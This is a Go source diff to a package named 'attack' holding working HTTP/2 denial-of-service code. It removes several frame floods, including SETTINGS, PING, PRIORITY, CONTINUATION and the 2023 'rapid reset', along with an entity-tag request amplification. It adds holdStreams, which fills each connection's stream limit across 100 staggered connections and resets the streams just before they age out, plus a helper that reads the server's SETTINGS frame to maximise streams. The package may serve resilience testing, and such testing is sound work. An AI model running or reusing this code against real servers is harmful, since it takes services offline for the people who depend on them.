@@ -3,8 +3,6 @@ package attack
 import (
 	"bytes"
 	"context"
-	"fmt"
-	"io"
 	"strings"
 	"time"
 
@@ -12,9 +10,9 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// maxStreams is how many streams a connection opens at a time: the limit of
-// package httpserver; most servers have 100 or more.
-const maxStreams = 32
+// maxStreams is how many streams a connection opens at a time, where the server
+// allows as many. RFC 9113, section 6.5.2, recommends that servers allow it.
+const maxStreams = 100
 
 // An h2conn writes the frames of one connection.
 type h2conn struct {
@@ -56,6 +54,20 @@ func (h *h2conn) request(method string, fields ...hpack.HeaderField) error {
 	return h.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.encode(method, fields...), EndStream: true, EndHeaders: true})
 }
 
+// maxStreams returns how many streams the connection opens: as many as the server's
+// SETTINGS frame allows, which comes first (RFC 9113, section 3.4).
+func (h *h2conn) maxStreams() uint32 {
+	streams := uint32(maxStreams)
+	if frame, _ := h.ReadFrame(); frame != nil {
+		if f, ok := frame.(*http2.SettingsFrame); ok {
+			if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
+				streams = min(streams, v)
+			}
+		}
+	}
+	return streams
+}
+
 func holdHTTP2(_ context.Context, c *Conn) {
 	c.startHTTP2()
 	c.readToEnd()
@@ -75,7 +87,7 @@ func closeWindowForRanges(_ context.Context, c *Conn) {
 func closeWindowWith(c *Conn, fields ...hpack.HeaderField) {
 	h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 	large := hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 4000)}
-	for range maxStreams {
+	for range h.maxStreams() {
 		if h.request("GET", append(fields, large, large, large, large)...) != nil {
 			return
 		}
@@ -115,8 +127,9 @@ func allowLargeFrames(ctx context.Context, c *Conn) {
 func pinVersions(bytes string) func(context.Context, *Conn) {
 	return func(ctx context.Context, c *Conn) {
 		h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		streams := h.maxStreams()
 		go c.readToEnd()
-		for range maxStreams {
+		for range streams {
 			if pause(ctx, writeInterval) != nil || h.request("GET", hpack.HeaderField{Name: "range", Value: bytes}) != nil {
 				return
 			}
@@ -132,115 +145,34 @@ func dribbleFrame(ctx context.Context, c *Conn) {
 	c.dribble(ctx, 'x')
 }
 
-func floodSettings(c *Conn) {
-	c.startHTTP2()
-	var frames bytes.Buffer
-	f := http2.NewFramer(&frames, nil)
-	for range 1000 {
-		f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
-	}
-	c.flood(frames.Bytes())
-}
+// resetTime is how long holdStreams leaves its requests open. A server may keep a
+// request that is younger than a second at any rate.
+const resetTime = 800 * time.Millisecond
 
-func floodPing(c *Conn) {
-	c.startHTTP2()
-	var frames bytes.Buffer
-	f := http2.NewFramer(&frames, nil)
-	for range 1000 {
-		f.WritePing(false, [8]byte{})
-	}
-	c.flood(frames.Bytes())
-}
+// holdingConns is how many connections hold all requests that foobar allows in HTTP/2.
+const holdingConns = 100
 
-func floodPriority(c *Conn) {
-	c.startHTTP2()
+// holdStreams opens as many streams as it may, resets them before they are a second old,
+// and begins again. No two connections do so at the same time.
+func holdStreams(ctx context.Context, c *Conn) {
+	if pause(ctx, time.Duration(c.index)*resetTime/holdingConns) != nil {
+		return
+	}
+	h := c.startHTTP2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+	streams := h.maxStreams()
 	go c.readToEnd()
-	var frames bytes.Buffer
-	f := http2.NewFramer(&frames, nil)
-	for i := range uint32(1000) {
-		f.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 2*i + 3, Weight: 1})
-	}
-	c.flood(frames.Bytes())
-}
-
-// floodWindow opens the window of the connection by one byte at a time, and
-// begins again before it is too large.
-func floodWindow(c *Conn) {
-	c.startHTTP2()
-	go c.readToEnd()
-	var frames bytes.Buffer
-	f := http2.NewFramer(&frames, nil)
-	for range 1000 {
-		f.WriteWindowUpdate(0, 1)
-	}
-	c.flood(frames.Bytes())
-}
-
-// floodReset is the "rapid reset" of 2023.
-func floodReset(c *Conn) {
-	h := c.startHTTP2()
-	go c.readToEnd()
-	for h.request("GET") == nil && h.WriteRSTStream(h.stream-1, http2.ErrCodeCancel) == nil {
-	}
-}
-
-func floodContinuation(c *Conn) {
-	h := c.startHTTP2()
-	go c.readToEnd()
-	block := bytes.Clone(h.encode("GET"))
-	h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true})
-	var frames bytes.Buffer
-	f := http2.NewFramer(&frames, nil)
-	f.AllowIllegalWrites = true
-	for range 1000 {
-		f.WriteContinuation(1, false, nil)
-	}
-	c.flood(frames.Bytes())
-}
-
-// sendTags compares the state with thousands of entity tags. It sends the next
-// requests when those before are answered.
-func sendTags(c *Conn) {
-	h := c.startHTTP2()
-	var tags strings.Builder
-	for i := 0; tags.Len() < 3990; i++ {
-		fmt.Fprintf(&tags, "%q,", fmt.Sprint(i%10))
-	}
-	field := hpack.HeaderField{Name: "if-none-match", Value: strings.TrimSuffix(tags.String(), ",")}
 	for {
-		for range maxStreams / 2 {
-			if h.request("HEAD", field, field, field) != nil {
+		first := h.stream + 1
+		for range streams {
+			if h.request("GET") != nil {
 				return
 			}
 		}
-		if h.readResponses(maxStreams/2) != nil {
+		if pause(ctx, resetTime) != nil {
 			return
 		}
-	}
-}
-
-// readResponses reads until so many streams have ended.
-func (h *h2conn) readResponses(n int) error {
-	h.SetReadDeadline(time.Now().Add(clientTimeout))
-	for n > 0 {
-		frame, err := h.ReadFrame()
-		if err != nil {
-			return err
-		}
-		switch f := frame.(type) {
-		case *http2.HeadersFrame:
-			if f.StreamEnded() {
-				n--
-			}
-		case *http2.DataFrame:
-			if f.StreamEnded() {
-				n--
-			}
-		case *http2.RSTStreamFrame:
-			n--
-		case *http2.GoAwayFrame:
-			return io.EOF
+		for id := first; id < h.stream; id += 2 {
+			h.WriteRSTStream(id, http2.ErrCodeCancel)
 		}
 	}
-	return nil
 }
